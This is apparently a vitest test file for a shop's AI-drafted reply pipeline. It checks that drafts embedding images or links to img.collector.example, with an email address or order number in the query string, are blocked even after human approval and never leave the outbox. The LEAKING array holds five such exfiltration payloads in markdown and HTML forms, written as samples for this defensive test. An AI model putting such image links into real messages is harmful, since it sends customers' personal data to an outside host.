import { describe, expect, test } from 'vitest'
import { drafts, steadyModel, wantsFollowUp } from '../pipeline/scripted-model.ts'
import { ASKED } from '../pipeline/tickets.ts'
import { openShop, TEXT } from './usual.ts'

/** Each makes a mail client or a browser fetch an address that carries data away. */
const LEAKING = [
  `${TEXT}\n\n![photo][1]\n\n[1]: https://img.collector.example/p?d=jo@mail.example`,
  `${TEXT}\n\n![photo](https://img.collector.example/p?d=1042)`,
  `${TEXT}\n\n[1]: //img.collector.example/p?d=1042`,
  `${TEXT}\n\n<img src="https://img.collector.example/p?d=1042">`,
  `${TEXT}\n\n&lt;img src=//img.collector.example/p&gt;`,
]

describe('an image that carries data away', () => {
  test.each(LEAKING)('%o does not leave by itself, nor by a click', async (text) => {
    const world = await openShop({
      model: steadyModel([wantsFollowUp(ASKED), drafts(text)]),
      policies: [{ mode: 'approval' }],
    })
    await world.pass()
    const { id, findings } = await world.decisionOn(1001)
    expect(findings.filter(({ severity }) => severity === 'block').length).toBeGreaterThan(0)
    expect((await world.steps.approve(id, { by: 'Nora' })).kind).toBe('blocked')
    expect(await world.outbox()).toEqual([])
  })

  test('what leaves is plain text: its HTML holds no image and no address', async () => {
    const world = await openShop()
    await world.pass()
    const [post] = await world.outbox()
    expect(JSON.stringify(post)).toContain('photo of the crack')
    expect(JSON.stringify(post)).not.toMatch(/<img|href|src=|https?:/i)
  })
})
